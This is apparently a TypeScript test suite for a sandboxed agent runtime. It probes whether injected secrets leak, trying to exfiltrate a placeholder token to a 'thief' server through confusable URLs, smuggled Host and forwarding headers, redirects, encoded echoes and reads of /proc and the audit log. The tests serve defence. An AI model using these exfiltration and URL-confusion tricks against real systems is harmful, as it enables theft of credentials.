/** Attacks on secrets that an agent may send, and not see. */
import { type Family, gives, probing } from '../support/attack.ts'
import { spellingNames } from '../support/corpus-web.ts'

/** `secret(name)` is a placeholder; `api` and `thief` are servers; `text(path)` is what the first says to one who sends the secret. */
const withSecrets = (body: string): string =>
  probing(`const secret = (name = 'TOKEN', more = '') => '$' + '{secret:' + name + more + '}'
    const api = 'http://127.0.0.1:' + world.api, thief = 'http://127.0.0.1:' + world.thief
    const headers = { authorization: 'Bearer ' + secret(), 'x-api-key': secret() }
    const asText = async (reply) => { const bytes = await reply.bytes(); return [...bytes].map((byte) => String.fromCharCode(byte)).join('') }
    const text = async (path) => asText(await fetch(api + path, { headers }))
    ${body}`)

export const secrets: Family = {
  name: 'secrets',
  property:
    'A secret reaches the server that it is for, in the place that it is for, and neither the agent nor the record sees it in any form that the kernel undoes.',
  attacks: [
    {
      name: 'the echo of a secret in every spelling',
      tries: 'Has the server say the secret in escapes, base64, hexadecimal, capitals and UTF-16.',
      source: withSecrets(`const left = []
        for (const as of ${JSON.stringify(spellingNames)})
          for (const type of ['text/plain', 'application/json', 'image/png']) {
            const said = await text('/spell?as=' + as + '&type=' + type)
            console.log(said)
            if (!said.replaceAll('\\0', '').includes('[secret:')) left.push([as, said])
          }
        return left`),
      ends: gives([]),
    },
    {
      name: 'the echo of a secret byte by byte',
      tries: 'Has the server send the secret in pieces of one byte, and packed.',
      source: withSecrets(`return [await text('/slow'), await text('/packed')]`),
      ends: gives(['[secret:TOKEN]', '[secret:TOKEN]']),
    },
    {
      name: 'the echo of a secret outside of the body',
      tries: 'Has the server say the secret in its status text, its headers and its cookies.',
      source:
        withSecrets(`const { status, statusText, headers: all } = await fetch(api + '/head', { headers })
        return [status, statusText, all.get('x-a'), all.get('set-cookie')]`),
      ends: gives([418, 'is [secret:TOKEN]', '[secret:TOKEN]', 'a=[secret:TOKEN], b=c']),
    },
    {
      name: 'an echo later, to somebody else',
      tries: 'Has the server keep the secret, and asks for it in later calls, also of a child.',
      source: withSecrets(`await text('/keep')
        const later = await asText(await fetch(api + '/kept'))
        const { pid } = await proc.spawn("export default async (url) => (await (await fetch(url)).text())", { args: [api + '/kept'] })
        const { value } = await proc.wait(pid)
        console.log(later, value)
        return [later.includes('[secret:TOKEN]'), value.includes('[secret:TOKEN]')]`),
      ends: gives([true, true]),
    },
    {
      name: 'a secret to other servers',
      tries:
        'Sends the secret to every other spelling of its server and to others, by users, ports, names and schemes.',
      source: withSecrets(`const codes = []
        for (const url of [thief, 'http://localhost:' + world.api, 'https://127.0.0.1:' + world.api, 'http://127.0.0.1', api + '@127.0.0.1:' + world.thief, 'http://127.0.0.1:' + world.api + '\\\\@127.0.0.1:' + world.thief, 'http://[::ffff:127.0.0.1]:' + world.api, 'http://127.1:' + world.api, 'http://2130706433:' + world.api, 'http://127。0。0。1:' + world.api, 'http://127.0.0.1.:' + world.api, 'http://127.0.0.1:0' + world.api, 'http://127.0.0.1.example.org:' + world.api, 'ftp://127.0.0.1:' + world.api, '//127.0.0.1:' + world.api, ''])
          for (const call of [() => fetch(url, { headers }), () => fetch(url + '?' + secret('WIDE')), () => fetch(url, { method: 'POST', body: secret('WIDE') })]) codes.push(await codeOf(call))
        return [...new Set(codes)].sort()`),
      ends: gives(['EINVAL', 'EPERM']),
    },
    {
      name: 'a secret by headers of the protocol',
      tries: 'Names another host in headers, beside the secret and by it.',
      source: withSecrets(`const codes = []
        for (const name of ['host', 'Host', ':authority', 'x-forwarded-host', 'forwarded', 'proxy-authorization', 'via', 'x-original-url', 'trailer', 'te'])
          for (const value of ['127.0.0.1:' + world.thief, secret()]) codes.push(await codeOf(fetch(api, { headers: { ...headers, [name]: value } })))
        return [...new Set(codes)]`),
      ends: gives(['EINVAL', 'TypeError']),
    },
    {
      name: 'a secret in places where none can stand',
      tries:
        'Puts placeholders into names of headers, the method, the host, the path, the fragment and the body.',
      source: withSecrets(`const codes = []
        for (const url of [api + '/' + secret(), api + '/' + secret('WIDE'), api + '/#' + secret('WIDE'), 'http://' + secret('WIDE') + '/', 'http://' + secret('WIDE') + ':' + world.thief, secret('WIDE') + '://127.0.0.1', 'http://' + secret('WIDE') + '@127.0.0.1:' + world.api, api + '/?' + secret()]) codes.push(await codeOf(fetch(url)))
        for (const init of [{ headers: { [secret()]: 'a' } }, { headers: { [secret('WIDE')]: 'a' } }, { method: secret('WIDE') }, { method: 'POST', body: secret() }]) codes.push(await codeOf(fetch(api, init)))
        return codes`),
      ends: gives([...Array(7).fill('EINVAL'), 'EPERM', ...Array(3).fill('TypeError'), 'EPERM']),
    },
    {
      name: 'placeholders that are none',
      tries: 'Nests, halves, respells and repeats placeholders, and names secrets that there are not.',
      source: withSecrets(`const codes = []
        for (const value of [secret(secret()), secret('TOKEN' + secret('WIDE')), secret('token'), secret(''), secret(' TOKEN'), secret('NONE'), secret('__proto__'), secret('constructor'), secret('TOKEN', '|basic:'), secret('TOKEN', '|basic:a:b'), secret('TOKEN', '|basic:' + secret()), secret('TOKEN', '|raw:a'), secret().slice(0, -1), secret() + secret('NONE'), secret().repeat(33)])
          codes.push(await codeOf(fetch(api, { headers: { a: value } })))
        codes.push(await codeOf(fetch(api, { method: 'POST', body: secret('WIDE').repeat(20_000) })))
        return [...new Set(codes)]`),
      ends: gives(['EINVAL']),
    },
    {
      name: 'a redirect that carries a secret elsewhere',
      tries:
        'Has the server redirect to the thief’s with the headers, the body and the query of the request.',
      source: withSecrets(`const ends = []
        for (const status of [301, 302, 303, 307, 308]) {
          const url = api + '/redirect?status=' + status + '&to=' + thief + '/'
          ends.push(await fetch(url, { headers }).then((reply) => reply.url === thief + '/'))
          ends.push(await codeOf(fetch(url, { method: 'POST', body: secret('WIDE') })))
        }
        return ends`),
      ends: gives([true, 'ok', true, 'ok', true, 'ok', true, 'EPERM', true, 'EPERM']),
    },
    {
      name: 'a redirect with a placeholder in it',
      tries: 'Has the server write a placeholder into the place that it redirects to.',
      source: withSecrets(`const ends = []
        for (const to of [thief + '/?' + secret('WIDE'), '/a?' + secret('WIDE'), api + '/a?x=' + secret('WIDE') + '#' + secret()])
          ends.push(await fetch(api + '/redirect?status=302&to=' + to.replaceAll('$', '%24').replaceAll('#', '%23').replaceAll('{', '%7B')).then(asText))
        return ends.map((said) => said === 'thanks' || (said.includes('%7Bsecret:WIDE') && !said.includes('[secret')))`),
      ends: gives([true, true, true]),
    },
    {
      name: 'errors that show a secret',
      tries: 'Makes the exchange fail in every way it knows, and reads the messages, its record and itself.',
      source: withSecrets(`const said = []
        for (const call of [() => fetch(api + '/broken', { headers }), () => fetch(api, { headers: { ...headers, 'b b': 'c' } }), () => fetch(api, { headers: { a: secret() + 'x'.repeat(32_700) } }), () => fetch(api, { headers: { a: secret() + '\\u0000' } }), () => fetch(api, { headers, body: 'x' }), () => fetch('http://127.0.0.1:1', { headers })]) said.push(await messageOf(call))
        console.log(said.join('\\n'), await fs.read('/audit/log.jsonl'), JSON.stringify(await proc.self()))
        for (const file of await fs.list('/proc')) console.log(await fs.read('/proc/' + file.name).catch(String))
        return said.every((message) => /^(E[A-Z0-9]+: |.b b. is not|the value of header .a. has|a GET request has no)/.test(message))`),
      ends: gives(true),
    },
    {
      name: 'a secret that is guessed piece by piece',
      tries: 'Has parts of what a secret may be echoed, to see which of them the kernel takes out.',
      source:
        withSecrets(`const guesses = ['canary', 'canary+', 'canary+"wire"', 'canary+"wire"/', '=&<' + String.fromCharCode(92)]
        const reply = await fetch(api + '/a?' + guesses.map(encodeURIComponent).join('|'))
        return (await asText(reply)).includes('[secret')`),
      ends: gives(false),
    },
    {
      name: 'an escape that swallows a part of a secret',
      tries:
        'Writes the beginning of an escape before the secret, and its end behind it, for a server that undoes escapes.',
      source: withSecrets(`const seen = []
        for (const before of ['%', '%6', '%25', '%256', String.fromCharCode(92) + 'u00', ''])
          for (const after of ['', '41', 'x'])
            seen.push(await fetch(api + '/a?b=' + before + secret('WIDE') + after).then(asText, (error) => error.code))
        console.log(seen)
        return [...new Set(seen.map((each) => (each.includes('[secret:') ? 'taken out' : each)))]`),
      ends: gives(['EINVAL', 'taken out']),
    },
    {
      name: 'placeholders outside of requests',
      tries: 'Writes, prints, sends and passes placeholders, and looks whether somebody puts a value in.',
      source: withSecrets(`const it = secret('WIDE')
        await fs.write('/tmp/a', it)
        console.log(it)
        const { pid } = await proc.spawn('export default (it) => it', { args: [it] })
        const all = [await fs.read('/tmp/a'), (await tools.echo({ it })).it, (await proc.wait(pid)).value]
        return all.every((each) => each === it)`),
      ends: gives(true),
    },
    {
      name: 'many secrets at once',
      tries: 'Sends the secret in many calls at the same time, and mixes their ends.',
      source:
        withSecrets(`const all = await Promise.all(Array.from({ length: 20 }, (_, n) => text(n % 2 ? '/slow' : '/spell?as=json')))
        return all.filter((each) => !each.includes('[secret:TOKEN]')).length`),
      ends: gives(0),
    },
  ],
}
